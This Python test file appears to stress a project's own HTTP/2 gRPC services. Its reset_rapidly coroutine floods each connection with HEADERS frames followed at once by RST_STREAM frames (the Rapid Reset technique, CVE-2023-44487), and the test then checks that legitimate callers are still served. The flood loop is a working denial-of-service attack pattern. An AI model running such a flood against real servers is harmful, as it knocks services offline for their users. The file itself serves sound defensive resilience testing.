"""Floods of HTTP/2 frames, of kinds that took down servers elsewhere, beside legitimate callers."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.e2e.attacked_pair import AttackedPair, Listener, attacked_pair
from tests.support.attacker import Counts, Pace, attacking
from tests.support.bystanders import bystanders
from tests.support.raw_http2 import Flag, Kind, Target, call_headers, connected, frame

pytestmark = [pytest.mark.campaign, pytest.mark.timeout(300)]

GET_TRUST_BUNDLE = "/handclasp.certificates.v1.CertificateService/GetTrustBundle"
EXECUTE = "/handclasp.integrations.v1.IntegrationService/ExecuteIntegration"

RESETS_A_SECOND = 1500


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AttackedPair]:
    with attacked_pair(tmp_path_factory.mktemp("floods")) as running:
        yield running


async def reset_rapidly(counts: Counts, target: Target, path: str) -> None:
    """Calls that are given up in the moment they are made (CVE-2023-44487)."""
    headers, tls, pace = call_headers(path), target.tls(), Pace(RESETS_A_SECOND)
    while True:
        counts["connections"] += 1
        try:
            async with connected(target, tls=tls) as connection:
                for first in range(1, 2**30, 200):
                    for stream in range(first, first + 200, 2):
                        flags = Flag.END_HEADERS | Flag.END_STREAM
                        connection.write(frame(Kind.HEADERS, headers, stream=stream, flags=flags))
                        connection.write(frame(Kind.RST_STREAM, b"\0\0\0\x08", stream=stream))
                    await connection.drained()
                    counts["calls"] += 100
                    await pace.after(100)
        except OSError:
            counts["connections lost"] += 1


@pytest.mark.parametrize("listener", ["certificates_tls", "executions"])
def test_rapid_resets(attacked: AttackedPair, listener: Listener) -> None:
    anonymous = listener == "certificates_tls"
    target = attacked.target(listener, None if anonymous else "low")
    with bystanders(*attacked.bystanders()) as crowd:
        crowd.call_quietly(6)
        with attacking(reset_rapidly, target, GET_TRUST_BUNDLE if anonymous else EXECUTE) as attack:
            crowd.call_under_attack(15)
    assert attack.counts["calls"] > 15 * RESETS_A_SECOND / 2
    crowd.assert_served()
